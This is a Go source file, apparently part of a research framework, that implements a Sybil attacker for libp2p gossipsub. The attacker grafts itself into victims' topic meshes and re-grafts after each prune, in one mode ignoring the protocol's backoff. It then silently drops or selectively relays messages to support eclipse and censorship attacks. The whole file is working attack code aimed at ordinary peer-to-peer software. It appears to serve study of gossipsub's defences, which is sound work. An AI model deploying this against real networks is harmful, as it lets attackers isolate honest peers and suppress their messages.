package sybil

import (
	"context"
	"sync"
	"sync/atomic"
	"time"

	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/peer"

	"github.com/strata-lab/strata/attacks/gossipwire"
	"github.com/strata-lab/strata/layers/overlay"
)

// GraftMode says how a Sybil (re-)joins its victims' meshes.
type GraftMode int

// Graft modes.
const (
	// GraftOnce sends one GRAFT per victim and accepts a PRUNE.
	GraftOnce GraftMode = iota
	// GraftPersistent re-GRAFTs a victim as soon as the backoff its PRUNE
	// asked for (or the default backoff) has passed: the aggressive GRAFT
	// of an eclipse, within the protocol's rules.
	GraftPersistent
	// GraftIgnoreBackoff re-GRAFTs ReGraftDelay after every PRUNE,
	// ignoring the backoff: gossipsub v1.1 counts each such GRAFT as a
	// behaviour penalty (P7), twice within the flood threshold.
	GraftIgnoreBackoff
)

func (g GraftMode) String() string {
	switch g {
	case GraftOnce:
		return "once"
	case GraftPersistent:
		return "persistent"
	case GraftIgnoreBackoff:
		return "ignore-backoff"
	}
	return "graft(?)"
}

// Implementation constants.
const (
	// defaultBackoff is assumed when a PRUNE states none: gossipsub's
	// PruneBackoff (one minute) and a second of slack for the heartbeat.
	defaultBackoff = time.Minute + time.Second
	// sendTimeout bounds every send, so that no Sybil blocks forever on a
	// victim that stopped reading.
	sendTimeout = 10 * time.Second
)

// Config configures one raw Sybil.
type Config struct {
	Topic  string
	Policy Policy
	Graft  GraftMode
	// ReGraftDelay is GraftIgnoreBackoff's pause between a PRUNE and the
	// next GRAFT (0: one second, one heartbeat).
	ReGraftDelay time.Duration
	// Relay makes the Sybil relay what it does not drop to its other mesh
	// peers; without it, it only receives (a pure sink).
	Relay bool
}

// Stats count what a Sybil did.
type Stats struct {
	Received, Relayed, Dropped, Grafts, Prunes int64
}

// Sybil is a minimal raw-protocol gossipsub peer (attacks/gossipwire): it
// subscribes to one topic, GRAFTs its victims as its GraftMode says,
// treats every victim that has not pruned it (or that grafted it) as a
// mesh peer, and on each new message it receives either drops it (Policy)
// or, with Relay, sends it on to its other mesh peers. It keeps no
// message cache, sends no IHAVE and answers no IWANT: it is not a router.
type Sybil struct {
	cfg Config
	p   *gossipwire.Peer
	ctx context.Context

	mu   sync.Mutex
	mesh map[peer.ID]bool
	seen map[[overlay.MessageIDSize]byte]struct{}

	received, relayed, dropped, grafts, prunes atomic.Int64
}

// New starts a Sybil on h; it acts until ctx ends (then call Close).
func New(ctx context.Context, h host.Host, cfg Config) *Sybil {
	s := &Sybil{cfg: cfg, ctx: ctx, mesh: map[peer.ID]bool{}}
	if cfg.Relay {
		s.seen = map[[overlay.MessageIDSize]byte]struct{}{}
	}
	if s.cfg.ReGraftDelay <= 0 {
		s.cfg.ReGraftDelay = time.Second
	}
	s.p = gossipwire.New(h, s)
	return s
}

// ID is the Sybil's peer ID.
func (s *Sybil) ID() peer.ID { return s.p.Host().ID() }

// Close stops the Sybil's protocol handlers and streams.
func (s *Sybil) Close() { s.p.Close() }

// Stats returns the Sybil's counters.
func (s *Sybil) Stats() Stats {
	return Stats{Received: s.received.Load(), Relayed: s.relayed.Load(), Dropped: s.dropped.Load(),
		Grafts: s.grafts.Load(), Prunes: s.prunes.Load()}
}

// Mesh returns how many victims count the Sybil as a mesh peer, as far
// as it knows.
func (s *Sybil) Mesh() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.mesh)
}

// Attack subscribes to the topic at victim v (connected already) and
// GRAFTs it. It returns the first send error.
func (s *Sybil) Attack(v peer.ID) error {
	if err := s.send(v, gossipwire.Subscribe(s.cfg.Topic)); err != nil {
		return err
	}
	return s.graft(v)
}

func (s *Sybil) graft(v peer.ID) error {
	s.mu.Lock()
	s.mesh[v] = true
	s.mu.Unlock()
	s.grafts.Add(1)
	return s.send(v, gossipwire.Graft(s.cfg.Topic))
}

func (s *Sybil) send(to peer.ID, rpc *pb.RPC) error {
	ctx, cancel := context.WithTimeout(s.ctx, sendTimeout)
	defer cancel()
	return s.p.Send(ctx, to, rpc)
}

// RPC handles an inbound RPC (gossipwire.Handler).
func (s *Sybil) RPC(from peer.ID, rpc *pb.RPC) {
	ctl := rpc.GetControl()
	for _, g := range ctl.GetGraft() {
		if g.GetTopicID() == s.cfg.Topic {
			s.mu.Lock()
			s.mesh[from] = true
			s.mu.Unlock()
		}
	}
	for _, pr := range ctl.GetPrune() {
		if pr.GetTopicID() == s.cfg.Topic {
			s.pruned(from, time.Duration(pr.GetBackoff())*time.Second)
		}
	}
	for _, m := range rpc.GetPublish() {
		if m.GetTopic() == s.cfg.Topic {
			s.message(from, m.GetData())
		}
	}
}

// StreamError is told of a broken inbound stream (gossipwire.Handler);
// the Sybil has nothing to do about it.
func (s *Sybil) StreamError(peer.ID, error) {}

func (s *Sybil) pruned(from peer.ID, backoff time.Duration) {
	s.prunes.Add(1)
	s.mu.Lock()
	delete(s.mesh, from)
	s.mu.Unlock()
	var wait time.Duration
	switch s.cfg.Graft {
	case GraftPersistent:
		wait = defaultBackoff
		if backoff > 0 {
			wait = backoff + time.Second
		}
	case GraftIgnoreBackoff:
		wait = s.cfg.ReGraftDelay
	default:
		return
	}
	go func() {
		t := time.NewTimer(wait)
		defer t.Stop()
		select {
		case <-s.ctx.Done():
		case <-t.C:
			_ = s.graft(from) // a victim that went away just stays pruned
		}
	}()
}

func (s *Sybil) message(from peer.ID, data []byte) {
	s.received.Add(1)
	id := overlay.MessageID(s.cfg.Topic, data)
	if s.cfg.Policy.Drop(time.Now(), id, data) {
		s.dropped.Add(1)
		return
	}
	if !s.cfg.Relay {
		return
	}
	s.mu.Lock()
	if _, dup := s.seen[id]; dup {
		s.mu.Unlock()
		return
	}
	s.seen[id] = struct{}{}
	var to []peer.ID
	for v := range s.mesh {
		if v != from {
			to = append(to, v)
		}
	}
	s.mu.Unlock()
	for _, v := range to {
		s.relayed.Add(1)
		go s.send(v, gossipwire.Publish(s.cfg.Topic, data)) //nolint:errcheck // a failed relay is a lost message, as for any relay
	}
}
